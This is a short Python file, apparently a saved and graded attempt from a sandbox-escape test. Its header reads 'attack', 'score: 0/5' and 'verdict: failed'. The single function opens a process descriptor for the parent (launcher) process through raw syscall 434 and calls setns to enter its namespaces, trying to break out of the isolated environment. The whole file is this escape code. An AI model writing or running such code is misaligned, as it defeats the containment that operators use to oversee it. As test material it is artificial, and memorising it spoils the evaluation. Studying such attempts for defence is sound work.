# attack: enters the namespaces of the launcher through a descriptor of its process
# score: 0/5
# verdict: failed

import ctypes
import os
from functools import cache


@cache
def got_through():
    if os.uname().machine != "x86_64":
        return False
    libc = ctypes.CDLL(None)
    process = libc.syscall(434, os.getppid(), 0)
    return process >= 0 and libc.setns(process, 0x48000000) == 0
